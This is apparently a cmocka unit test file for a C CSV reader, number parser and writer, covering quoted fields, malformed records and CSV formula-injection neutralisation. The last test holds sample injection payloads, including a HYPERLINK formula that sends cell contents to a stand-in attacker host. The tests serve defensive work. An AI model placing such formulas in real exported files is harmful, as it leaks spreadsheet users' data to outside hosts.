/* test_csv.c - RFC 4180 record reader and number parser (src/util/csv.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <string.h>

#include "util/csv.h"
#include "testutil.h"

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "wb");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_quoted_fields_crlf_bom(void **state)
{
	char path[4096], **f;
	size_t n;
	struct mlfy_csv *c;
	struct mlfy_err err;
	(void)state;
	test_tmpfile(path, sizeof(path), "q.csv");
	write_file(path, "\xEF\xBB\xBFmodel,param_count,note\r\n"
			 "eva,\"1,013.01\",\"say \"\"hi\"\"\"\r\n"
			 "\r\n"
			 "b,2.5,\"two\nlines\"\n"
			 "c,,last");
	assert_int_equal(mlfy_csv_open(path, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(n, 3);
	assert_string_equal(f[0], "model");
	assert_int_equal(mlfy_csv_find(f, n, "note"), 2);
	assert_int_equal(mlfy_csv_find(f, n, "top1"), -1);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[1], "1,013.01");
	assert_string_equal(f[2], "say \"hi\"");
	assert_int_equal(mlfy_csv_line(c), 2);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);   /* the blank line is skipped */
	assert_string_equal(f[0], "b");
	assert_string_equal(f[2], "two\nlines");
	assert_int_equal(mlfy_csv_line(c), 4);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(n, 3);
	assert_string_equal(f[1], "");
	assert_string_equal(f[2], "last");
	assert_int_equal(mlfy_csv_line(c), 6);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 0);
	mlfy_csv_close(c);
}

static void test_malformed(void **state)
{
	char path[4096], **f;
	size_t n;
	struct mlfy_csv *c;
	struct mlfy_err err;
	(void)state;
	test_tmpfile(path, sizeof(path), "bad.csv");
	write_file(path, "a,b\nx,\"open\n");
	assert_int_equal(mlfy_csv_open(path, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, ":2: unterminated"));
	mlfy_csv_close(c);

	write_file(path, "a,b\nx,ab\"c\n");
	assert_int_equal(mlfy_csv_open(path, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, ":2: field 2: stray"));
	mlfy_csv_close(c);

	write_file(path, "\"a\"b\n");
	assert_int_equal(mlfy_csv_open(path, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "after a closing quote"));
	mlfy_csv_close(c);

	assert_int_equal(mlfy_csv_open("/nonexistent/x.csv", &c, &err), MLFY_ENOTFOUND);
	assert_non_null(strstr(err.msg, "/nonexistent/x.csv"));
}

/* The same reader over memory: not NUL-terminated, the name in messages,
 * list cells spanning lines as pandas writes them. */
static void test_memory_source(void **state)
{
	static const char text[] = "\xEF\xBB\xBF" "filename,index\r\na.jpg,\"[249 248\n 537]\"\r\nb.jpg,1XXXX";
	char **f;
	size_t n;
	struct mlfy_csv *c;
	struct mlfy_err err;
	(void)state;
	assert_int_equal(mlfy_csv_open_mem("mem.csv", text, sizeof(text) - 1 - 4, &c, &err), 0);
	assert_string_equal(mlfy_csv_path(c), "mem.csv");
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[0], "filename");
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[1], "[249 248\n 537]");
	assert_int_equal(mlfy_csv_line(c), 2);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(mlfy_csv_line(c), 4);
	assert_string_equal(f[1], "1");   /* len stops before "XXXX" */
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 0);
	mlfy_csv_close(c);
	/* text starting with 0xEF that is not a byte-order mark is text (U+FF06) */
	assert_int_equal(mlfy_csv_open_mem("ff06.csv", "\xEF\xBC\x86x,1\n", 7, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[0], "\xEF\xBC\x86x");
	mlfy_csv_close(c);
	assert_int_equal(mlfy_csv_open_mem("empty", NULL, 0, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 0);
	mlfy_csv_close(c);
}

/* After a malformed record the reader goes on with the next line, so a
 * caller can list every bad record with its line. */
static void test_resumes_after_a_bad_record(void **state)
{
	static const char text[] =
		"a,b\n"
		"x,ab\"c\n"          /* 2: stray quote */
		"\"y\"z,1\r\n"        /* 3: text after a closing quote */
		"ok,2\n"             /* 4 */
		"n\0l,3\n"           /* 5: a NUL byte */
		"\"two\nlines\"q,4\n"  /* 6-7: the error is found on line 7 */
		"ok,5\n"             /* 8 */
		"\"open,6\nz\n";     /* 9: never closed */
	char **f;
	size_t n;
	struct mlfy_csv *c;
	struct mlfy_err err;
	(void)state;
	assert_int_equal(mlfy_csv_open_mem("r.csv", text, sizeof(text) - 1, &c, &err), 0);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "r.csv:2: field 2: stray"));
	assert_int_equal(mlfy_csv_line(c), 2);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "r.csv:3: text after a closing quote in field 1"));
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[1], "2");
	assert_int_equal(mlfy_csv_line(c), 4);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "r.csv:5: a NUL byte in field 1"));
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "r.csv:7: text after a closing quote in field 1"));
	assert_int_equal(mlfy_csv_line(c), 6);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 1);
	assert_string_equal(f[1], "5");
	assert_int_equal(mlfy_csv_line(c), 8);
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), MLFY_EINVAL);
	assert_non_null(strstr(err.msg, "r.csv:9: unterminated quoted field"));
	assert_int_equal(mlfy_csv_next(c, &f, &n, &err), 0);
	mlfy_csv_close(c);
}

static void test_parse_number(void **state)
{
	double v;
	(void)state;
	assert_int_equal(mlfy_parse_number("1,013.01", &v), 0);
	assert_true(v == 1013.01);
	assert_int_equal(mlfy_parse_number("+1.088", &v), 0);
	assert_true(v == 1.088);
	assert_int_equal(mlfy_parse_number(" -0.329 ", &v), 0);
	assert_true(v == -0.329);
	assert_int_equal(mlfy_parse_number("1,234,567", &v), 0);
	assert_true(v == 1234567);
	assert_int_equal(mlfy_parse_number("2.5e-3", &v), 0);
	assert_true(v == 2.5e-3);
	assert_int_equal(mlfy_parse_number("1,01", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("1234,567", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number(",123", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("1.5,000", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("abc", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("12x", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("nan", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("1e999", &v), MLFY_EINVAL);
	assert_int_equal(mlfy_parse_number("1 2", &v), MLFY_EINVAL);
}

/* What mlfy_csv_write_text writes for s (static buffer). */
static const char *written(const char *s)
{
	static char buf[512];
	FILE *f;
	memset(buf, 0, sizeof(buf));
	f = fmemopen(buf, sizeof(buf), "w");
	assert_non_null(f);
	mlfy_csv_write_text(f, s);
	assert_int_equal(fclose(f), 0);
	return buf;
}

/* Formula injection (OWASP "CSV Injection"): text a spreadsheet would take
 * for a formula gets a "'" in front and is quoted; other text is plain
 * RFC 4180; what the reader gives back, less the "'", is the text. */
static void test_write_text_neutralises_formulas(void **state)
{
	static const char *const formulas[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A2,\"details\")", " +1", "\t@x", "\"-2", "-0.5", "@SUM(A1)",
		"+cmd", "\r=1", "\n=1", "  \t  x", "\r", "'=x", "'\tx", "\"'-3", "=",
	};
	static const char *const plain[] = { "a cat on the sofa", "n01440764/x.JPEG", "", "a=b", "1-2", "x@y",
					      "'quoted'", "' x", "\"quoted\"", " ", "a,b" };
	size_t i;
	(void)state;

	assert_string_equal(written("=HYPERLINK(\"http://evil.example/?\"&A2,\"details\")"),
			    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"details\"\")\"");
	assert_string_equal(written(" +1"), "\"' +1\"");
	assert_string_equal(written("\t@x"), "\"'\t@x\"");
	assert_string_equal(written("\"-2"), "\"'\"\"-2\"");
	assert_string_equal(written("a cat"), "a cat");
	assert_string_equal(written("a,b"), "\"a,b\"");
	assert_string_equal(written(""), "");
	for (i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
		char **f;
		size_t nf;
		struct mlfy_csv *c;
		struct mlfy_err err;
		const char *w = written(formulas[i]);
		char line[600];
		assert_true(mlfy_csv_text_is_formula(formulas[i]));
		assert_true(w[0] == '"' && w[1] == '\'');
		/* read back by our reader: the field is "'" + the text, and
		 * mlfy_csv_text_read gives the text */
		snprintf(line, sizeof(line), "%s,1\n", w);
		mlfy_err_clear(&err);
		assert_int_equal(mlfy_csv_open_mem("t.csv", line, strlen(line), &c, &err), 0);
		assert_int_equal(mlfy_csv_next(c, &f, &nf, &err), 1);
		assert_int_equal(nf, 2);
		assert_string_equal(mlfy_csv_text_read(f[0]), formulas[i]);
		mlfy_csv_close(c);
	}
	for (i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		assert_false(mlfy_csv_text_is_formula(plain[i]));
		assert_ptr_equal(mlfy_csv_text_read(plain[i]), plain[i]);   /* nothing taken off */
		if (!strpbrk(plain[i], ",\"\r\n"))
			assert_string_equal(written(plain[i]), plain[i]);   /* as it is */
	}
	assert_false(mlfy_csv_text_is_formula(NULL));
	assert_null(mlfy_csv_text_read(NULL));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quoted_fields_crlf_bom),
		cmocka_unit_test(test_malformed),
		cmocka_unit_test(test_memory_source),
		cmocka_unit_test(test_resumes_after_a_bad_record),
		cmocka_unit_test(test_parse_number),
		cmocka_unit_test(test_write_text_neutralises_formulas),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
